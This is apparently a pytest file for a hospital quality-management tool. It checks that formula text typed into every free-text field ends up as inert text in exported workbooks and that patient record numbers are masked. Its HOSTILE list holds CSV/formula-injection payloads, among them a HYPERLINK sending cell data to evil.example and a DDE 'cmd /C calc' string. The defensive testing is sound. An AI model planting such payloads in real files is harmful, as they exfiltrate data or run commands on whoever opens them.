"""Whatever a unit typed is data: formula text in every free-text field, record numbers typed anywhere, on
their way through a real ward, a real `qmsdesk office serve` and the office's reports.

Every free-text column of the ward's register gets a hostile string (a formula or DDE start, its field's
marker, the event's full record number and an unknown number after a label). Then every workbook writer
runs over that data — the ward's month (package and preview), the indicator template, the office's
quarterly workbook — and every byte the ward and the office wrote is searched.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from exported_bytes import leaks, live_formulas
from month_records import FULL_RECORD_NO
from receiver_process import PERIOD, Office, Receiver, Ward, run
from sqlalchemy import Text, update

from qmsdesk.db import models as m

UNKNOWN_NUMBER = "88812345"  # a patient the event register does not know, typed after a label
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
# Every field a person types free text into (enumerations and codes are checked by the services).
FREE_TEXT = {
    m.Meeting: ["place", "agenda", "minutes", "decisions", "follow_up"],
    m.MeetingProblem: ["category", "description"],
    m.TrainingSession: ["topic", "trainer", "place"],
    m.Assessment: ["subject"],
    m.IndicatorDefinition: ["name_zh", "name_en", "numerator_def", "denominator_def", "unit", "source"],
    m.IndicatorValue: ["note"],
    m.Inspection: ["inspector", "topic", "summary"],
    m.InspectionFinding: ["category", "description"],
    m.AdverseEvent: ["description", "immediate_action", "analysis"],
    m.RectificationItem: ["category", "problem", "root_cause", "measures", "effect_evaluation"],
    m.ProgressNote: ["note", "author"],
    m.Authorisation: ["item", "basis"],
    m.Staff: ["name", "title"],
    m.Unit: ["hospital_name", "department_name"],
    m.GroupMembership: ["duties"],
    m.AnnualPlan: ["objectives"],
    m.PlanIndicatorGoal: ["note"],
    m.PlanFocus: ["theme", "details", "outcome"],
    m.PlanTraining: ["topic", "audience", "trainer"],
    m.PlanInspection: ["title", "responsible"],
    m.PlanPdcaTheme: ["theme", "leader"],
    m.QualityAnalysis: ["summary", "reopen_reason"],
    m.AnalysisProblem: ["problem", "cause", "measures"],
    m.ChecklistTemplate: ["name"],
    m.ChecklistItem: ["section", "text", "rule"],
    m.InspectionItem: ["reason", "attachment"],
    m.EventAnalysis: ["team", "root_cause", "lessons"],
    m.EventFactor: ["note"],
    m.PdcaProject: ["title", "reason", "team", "current_state", "check_summary", "standardization", "next_cycle"],
    m.PdcaCause: ["description", "verification"],
    m.PdcaCountermeasure: ["what", "why", "where", "how"],
    m.PdcaLogEntry: ["note", "author"],
}


def hostile_text(n: int, marker: str) -> str:
    return f"{HOSTILE[n % len(HOSTILE)]}·{marker} 病案号{FULL_RECORD_NO} 住院号：{UNKNOWN_NUMBER}"


def test_every_text_column_of_the_register_is_in_the_free_text_list():
    """A new text field joins the list (and so this test) or is a code the services check."""
    texts = {(mapper.class_, c.key) for mapper in m.Base.registry.mappers for c in mapper.columns
             if isinstance(c.type, Text)}
    listed = {(cls, f) for cls, fields in FREE_TEXT.items() for f in fields}
    assert texts - listed == {(m.Submission, "package_path"), (m.Submission, "amend_reason"),
                              (m.Submission, "comments")}


def _make_hostile(ward: Ward) -> None:
    """Add a progress note and an authorisation, then put a hostile string into every free-text field."""
    from datetime import date

    from qmsdesk.db.engine import open_database
    from qmsdesk.services import pdca

    db = open_database(ward.db, actor="测试护士长")
    with db.session() as s:
        item = s.query(m.RectificationItem).filter(m.RectificationItem.status == "in_progress").one()
        head = s.query(m.Staff).filter(m.Staff.employee_no == "N001").one()
        s.add(m.ProgressNote(item_id=item.id, date=date(2026, 10, 20), note="x", author="王护士长"))
        s.add(m.Authorisation(staff_id=head.id, item="x", level="x", granted_on=date(2026, 1, 1), status="active"))
        project = pdca.create_project(s, title="x", reason="x", started_on=date(2026, 9, 1), leader_id=head.id)
        cause = pdca.add_cause(s, project.id, category="method", description="x", key_cause=True, verification="x")
        pdca.add_countermeasure(s, project.id, what="x", why="x", where="x", how="x", responsible_id=head.id,
                                deadline=date(2026, 11, 30), cause_id=cause.id, found_on=date(2026, 10, 8))
        pdca.add_log(s, project.id, on=date(2026, 10, 9), note="x", author="x")
    with db.session(skip_period_lock=True) as s:
        n = 0
        for model, fields in FREE_TEXT.items():
            for field in fields:
                s.execute(update(model).values({field: hostile_text(n, f"{model.__name__}.{field}")}))
                n += 1
    db.close()


@pytest.fixture
def office(tmp_path):
    made = Office.with_units(tmp_path, str(tmp_path / "office.db"), ("H001", "D012"))
    # The office types names too: a unit whose names look like formulas (it never reports: 未报 in every sheet).
    done = made.cli("enroll", "--hospital", "H003", "--hospital-name", HOSTILE[0], "--department", "D003",
                    "--department-name", HOSTILE[3], "--out", tmp_path / "H003.enroll.json")
    assert done.returncode == 0, done.stderr
    return made


def test_hostile_text_and_record_numbers_through_ward_receiver_and_office_reports(office, tmp_path):
    rx = Receiver(office)
    try:
        ward = Ward(tmp_path / "ward").create(office.root / "H001_D012.enroll.json")
        _make_hostile(ward)
        files = _ward_side(ward, rx, tmp_path)
        assert office.confirm("H001", "D012", ward.fingerprint()).returncode == 0
        assert "已导入" in office.cli("import").stdout
        files.update(_office_side(office, tmp_path))
        files["receiver output"] = rx.output().encode()
    finally:
        rx.stop()
    files.update({f"office/{p.relative_to(office.dir)}": p.read_bytes() for p in office.files()})
    files.update({f"office-data/{p.name}": p.read_bytes() for p in office.data.glob("*") if p.is_file()})
    files.update({f"ward/{p.relative_to(ward.data)}": p.read_bytes() for p in ward.data.rglob("*")
                  if p.is_file() and not p.name.startswith("q.db")})  # the register holds the numbers, privately

    found = leaks(files, [FULL_RECORD_NO, UNKNOWN_NUMBER])
    assert found == [], "\n".join(found)
    workbooks = _all_workbooks(files)
    writers = {"ward preview", "template", "package report.xlsx", "quarterly"}
    assert writers <= {k.split(":")[0] for k in workbooks}
    stored_as_text = dict.fromkeys(writers, 0)
    for name, blob in workbooks.items():
        bad, stored = live_formulas(name, blob)
        assert bad == []
        writer = name.split(":")[0]
        stored_as_text[writer] = stored_as_text.get(writer, 0) + stored
    assert all(stored_as_text[w] > 0 for w in writers), stored_as_text  # the hostile text is there, as text


def _ward_side(ward: Ward, rx: Receiver, tmp_path: Path) -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    preview = tmp_path / "preview"
    done = ward.cli("submit", "--period", PERIOD, "--preview", preview)
    assert done.returncode == 0, done.stderr
    files["ward preview: report.xlsx"] = (preview / "report.xlsx").read_bytes()
    files["ward preview: report.pdf"] = (preview / "report.pdf").read_bytes()
    template = tmp_path / "模板.xlsx"
    assert ward.cli("indicators", "template", template, "--period", PERIOD).returncode == 0
    files["template: 模板.xlsx"] = template.read_bytes()
    sent = ward.submit(rx.url)
    assert sent.returncode == 6, sent.stderr  # held: the office confirms the key first
    files["ward submit output"] = (sent.stdout + sent.stderr).encode()
    for args in (("status", "--period", PERIOD), ("audit", "--limit", "0")):
        done = ward.cli(*args)
        assert done.returncode == 0, done.stderr
        files[f"ward {args[0]}"] = (done.stdout + done.stderr).encode()
    return files


def _office_side(office: Office, tmp_path: Path) -> dict[str, bytes]:
    from qmsdesk.sync.package import read_package

    files: dict[str, bytes] = {}
    archived = next(p for p in office.files("archive") if p.suffix == ".qmspkg")
    contents = read_package(archived, office_key=office.keys().encryption)  # opened, as only the office can
    for name, blob in contents.members.items():
        files[f"package {name}"] = blob
    comment = f"{HOSTILE[0]} 请核对病案号 {UNKNOWN_NUMBER} 的跌倒记录"
    returned = office.cli("ack", archived, "--return", comment)
    assert returned.returncode == 0, returned.stderr
    report = tmp_path / "quarterly"
    done = office.cli("report", "--quarter", "2026Q4", "--out", report)
    assert done.returncode == 0, done.stderr
    for f in report.iterdir():
        files[f"quarterly: {f.name}"] = f.read_bytes()
    listing = office.cli("import")
    files["office import output"] = (listing.stdout + listing.stderr).encode()
    receipt = next(p for p in office.files("inbox") if p.name.endswith(".receipt.json"))
    assert "****" in json.loads(receipt.read_text(encoding="utf-8"))["comments"]
    return files


def _all_workbooks(files: dict[str, bytes]) -> dict[str, bytes]:
    return {n: b for n, b in files.items() if b[:2] == b"PK" and b"xl/workbook.xml" in b}


def test_an_item_made_from_an_event_does_not_copy_its_record_number(tmp_path):
    from month_records import seed_month

    from qmsdesk.db.engine import open_database
    from qmsdesk.services.ledger import item_from_event

    db = open_database(tmp_path / "q.db", actor="测试护士长")
    with db.session() as s:
        made = seed_month(s)
        made["event"].analysis = f"床旁未放置警示标识（住院号{UNKNOWN_NUMBER}同病室）"
        s.flush()
        item = item_from_event(s, made["event"].id)
        assert FULL_RECORD_NO not in item.problem and "****1234" in item.problem
        assert UNKNOWN_NUMBER not in item.root_cause and "****2345" in item.root_cause
    db.close()


def test_files_holding_record_numbers_or_keys_are_private_to_the_user(office, tmp_path):
    """The ward's register, its backups and key file, the office's store and key file: 0600 in 0700 folders."""
    import stat

    ward = Ward(tmp_path / "ward").create(office.root / "H001_D012.enroll.json")
    for path in (ward.db, ward.data / "keys.qmskey", tmp_path / "office.db", office.data / "keys.qmskey"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (ward.data, office.data):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    backup = run(["db", "backup", "--db", ward.db], ward.env)
    assert backup.returncode == 0, backup.stderr
    made = [p for p in ward.data.glob("q-backup-*.db")]
    assert made and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in made)
    restored = tmp_path / "new-pc" / "data" / "q.db"  # restored on another PC, into a folder not there yet
    done = run(["db", "restore", made[0], "--db", restored], ward.env)
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(restored.stat().st_mode) == 0o600 and stat.S_IMODE(restored.parent.stat().st_mode) == 0o700


def test_the_receiver_does_not_keep_office_keys_in_a_plaintext_keyring_unless_told_to(office, tmp_path):
    """PYTHON_KEYRING_BACKEND naming keyrings.alt's plaintext file is not consent: `office serve` wants the key
    file's passphrase instead, and says how to accept the plaintext file if that is really meant."""
    env = dict(office.env, PYTHON_KEYRING_BACKEND="keyrings.alt.file.PlaintextKeyring",
               XDG_DATA_HOME=str(tmp_path / "xdg"))
    del env["QMSDESK_KEY_PASSPHRASE"]
    done = run(["office", "serve", "--port", "9"], env, timeout=60)
    assert done.returncode != 0
    assert "不是系统钥匙串" in done.stderr and "QMSDESK_PLAINTEXT_KEYRING=PlaintextKeyring" in done.stderr
    assert not list((tmp_path / "xdg").rglob("*.cfg"))  # nothing was written to the plaintext file
